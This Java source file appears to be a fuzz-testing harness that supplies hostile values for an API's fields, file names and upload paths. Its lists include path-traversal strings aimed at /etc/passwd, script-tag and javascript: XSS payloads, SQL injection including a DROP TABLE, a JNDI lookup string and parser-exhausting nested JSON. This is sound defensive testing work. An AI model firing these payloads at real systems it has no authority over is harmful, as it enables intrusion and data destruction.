package dev.depot.system.fuzz;

import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;

/** The hostile values: what a careless or malicious client sends where a well-formed value belongs. */
public final class Hostile {

    private Hostile() {}

    static final String LONG = "a".repeat(10_000);
    static final String LONGER = "\u00e9".repeat(70_000);
    static final String ZALGO = "Z" + "\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308".repeat(300);

    /** Text values, for any string, path segment, query value or JSON string. */
    static final List<String> STRINGS = List.of(
            "",
            " ",
            "\t",
            "0",
            "-1",
            "1",
            "999999999",
            "-999999999",
            "2147483648",
            "-2147483649",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775809",
            "99999999999999999999999999999",
            "1e309",
            "-1e309",
            "1.5",
            "0x1F",
            "NaN",
            "Infinity",
            "-0",
            "00000000001",
            "true",
            "false",
            "null",
            "undefined",
            "[]",
            "{}",
            "[1,2]",
            "{\"a\":1}",
            "00000000-0000-0000-0000-000000000000",
            "ffffffff-ffff-ffff-ffff-ffffffffffff",
            "zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz",
            "123e4567-e89b-12d3-a456-42661417400",
            "123e4567e89b12d3a45642661417400a",
            "{123e4567-e89b-12d3-a456-426614174000}",
            "123e4567-e89b-12d3-a456-426614174000-extra",
            "a\u0000b",
            "\u0000",
            "\u202Etxt.exe",
            "\u202E\u202D\u2066",
            "\uD800",
            "x\uDC00y",
            "\uFFFF",
            "\uFEFF",
            "\uD83D\uDE00\uD83D\uDCA9",
            "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
            ZALGO,
            "e\u0301",
            "\u0130\u0131\u00DF",
            LONG,
            LONGER,
            "../../../../etc/passwd",
            "..",
            ".",
            "/",
            "\\",
            "a/b",
            "a\\b",
            "%00",
            "%",
            "%2e%2e%2f",
            "<script>alert(1)</script>",
            "' OR '1'='1",
            "'; DROP TABLE file; --",
            "\"",
            "${jndi:ldap://x/a}",
            "%s%s%s%n",
            "\r\n",
            "line\nbreak",
            "CON",
            "nul.txt",
            "     padded     ",
            "2025-13-45",
            "0000-00-00T00:00:00Z",
            "9999-12-31T23:59:59Z",
            "+1000000000-01-01T00:00:00Z",
            "-999999999-01-01T00:00:00Z",
            "2025-01-01T00:00:00+25:00",
            "1970-01-01",
            "http://127.0.0.1:1/",
            "file:///etc/passwd",
            "javascript:alert(1)",
            "user@",
            "@",
            "a@b@c");

    static final List<String> UUIDISH = List.of(
            "00000000-0000-0000-0000-000000000000",
            "zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz",
            "123e4567-e89b-12d3-a456-42661417400",
            "123e4567e89b12d3a45642661417400a",
            "{123e4567-e89b-12d3-a456-426614174000}",
            "123e4567-e89b-12d3-a456-426614174000-extra",
            "123E4567-E89B-12D3-A456-426614174000",
            " 123e4567-e89b-12d3-a456-426614174000",
            "1-2-3-4-5");

    static final List<String> NUMBERS = List.of(
            "0",
            "-1",
            "-2147483648",
            "2147483647",
            "2147483648",
            "999999999",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775809",
            "99999999999999999999999999999",
            "1e309",
            "1.5",
            "-0",
            "0x10",
            "1_000",
            "+1",
            " 1",
            "1 ",
            "NaN",
            "Infinity",
            "",
            "one",
            "1".repeat(2_000));

    /** A hostile text value; {@code type} leans it towards that kind of input (integer, boolean, uuid, date). */
    static String text(Random r, String type) {
        if (type != null && r.nextInt(3) > 0) {
            switch (type) {
                case "integer", "number":
                    return pick(r, NUMBERS);
                case "uuid":
                    return r.nextBoolean() ? uuid(r) : pick(r, UUIDISH);
                case "boolean":
                    return pick(r, List.of("yes", "1", "0", "TRUE", "tru", "", "null", "truefalse"));
                default:
                    break;
            }
        }
        return pick(r, STRINGS);
    }

    /** A hostile JSON value for a field of the given type: the wrong type as often as the wrong value. */
    static Object json(Random r, String type) {
        switch (r.nextInt(4)) {
            case 0:
                return text(r, type);
            case 1:
                return pick(
                        r,
                        List.<Object>of(
                                new Json.Raw("1e309"),
                                new Json.Raw("-1e309"),
                                new Json.Raw("123456789012345678901234567890"),
                                new Json.Raw("-9223372036854775809"),
                                new Json.Raw("9223372036854775808"),
                                new Json.Raw("1.0e-400"),
                                new Json.Raw("-0"),
                                new Json.Raw("1" + "0".repeat(1_200)),
                                -1,
                                0,
                                999999999,
                                Integer.MAX_VALUE,
                                Long.MIN_VALUE,
                                1.5));
            case 2:
                return pick(
                        r,
                        List.<Object>of(
                                true,
                                false,
                                new Json.Raw("null"),
                                List.of(),
                                List.of("a", 1),
                                Map.of(),
                                Map.of("a", Map.of("b", 1)),
                                List.of(Map.of())));
            default:
                return pick(
                        r,
                        List.<Object>of(
                                deepArray(1_001),
                                deepArray(5_000),
                                deepObject(1_200),
                                Collections.nCopies(2_000, 1),
                                manyKeys(2_000),
                                "\uD800" + LONG,
                                LONGER));
        }
    }

    static Json.Raw deepArray(int depth) {
        return new Json.Raw("[".repeat(depth) + "]".repeat(depth));
    }

    static Json.Raw deepObject(int depth) {
        return new Json.Raw("{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
    }

    static Map<String, Object> manyKeys(int n) {
        Map<String, Object> m = new LinkedHashMap<>();
        for (int i = 0; i < n; i++) {
            m.put("k" + i, i);
        }
        return m;
    }

    /** A file name a client could send in a multipart part or a JSON field. */
    static final List<String> FILENAMES = List.of(
            "",
            ".",
            "..",
            "../../../etc/passwd",
            "..\\..\\win.ini",
            "/abs.txt",
            "a/b/c.txt",
            "a\u0000b.txt",
            "\u202Efdp.exe",
            "\uD83D\uDE00.txt",
            "CON",
            "aux.txt",
            " .txt",
            "x".repeat(300),
            "y".repeat(10_000) + ".txt",
            "quote\".txt",
            "semi;colon.txt",
            "new\nline.txt",
            "tab\t.txt",
            "\u0000",
            "%2e%2e%2fx.txt",
            "e\u0301.txt",
            "a" + ZALGO + ".txt",
            "*.txt",
            "?.txt",
            "<>.txt");

    /** Relative paths for a folder upload's parts. */
    static final List<String> PATHS = List.of(
            "a/b/../../../escape.txt",
            "/abs/x.txt",
            "a//b.txt",
            "./x.txt",
            "a/".repeat(300) + "deep.txt",
            "a/./b/x.txt",
            "..",
            "a/\u0000/x.txt",
            "\u202E/x.txt",
            "x".repeat(5_000) + "/y.txt",
            "a\\b\\c.txt",
            "",
            "/",
            "a/b/",
            "dir/" + "f".repeat(300) + ".txt");

    /** An id nobody has: from the seed, so a run can be repeated. */
    static String uuid(Random r) {
        return new UUID(r.nextLong(), r.nextLong()).toString();
    }

    static <T> T pick(Random r, List<T> list) {
        return list.get(r.nextInt(list.size()));
    }
}
